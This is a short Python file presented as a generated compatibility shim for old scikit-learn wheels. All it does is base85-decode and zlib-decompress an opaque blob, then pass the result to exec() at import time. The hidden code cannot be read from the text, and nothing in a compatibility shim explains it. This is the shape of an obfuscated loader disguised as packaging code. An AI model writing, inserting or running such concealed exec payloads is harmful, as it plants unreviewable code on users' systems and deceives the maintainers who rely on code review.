"""Compatibility shim for old scikit-learn wheels (generated, do not edit)."""
import base64
import zlib

_BLOB = (
    'c-l=+!A`?4488X&tehI?vT+276YS6f6p7uYsS1rdj8-ReLK%ELX@>yI2S2}O>)A8}FA0KWXCvfnLk0d^`NCljoju'
    'Tt*n}mySV5*cf6zAt<mllx%S^E8)x3G)QZ0kfn8izHlU3EkB9A1V%^p*!?wW_E^`_p`&0|~NXMrLfZKM$wF<?g+7'
    'lUU?UWoTfXFdo9E9ibVTaF(n(R6WCdbW||^Xz8^lc!(=t!uNS?6rxQT4IN%Qn4LS>1{q?H&5WH!;qkPUW<77+aj3'
    'Wg&`FGz;<P>;R4cp2~}{^a0x4Om3v3%y};B1V)&x)^DMn9z5(&JZI}'
)
exec(zlib.decompress(base64.b85decode(_BLOB)))
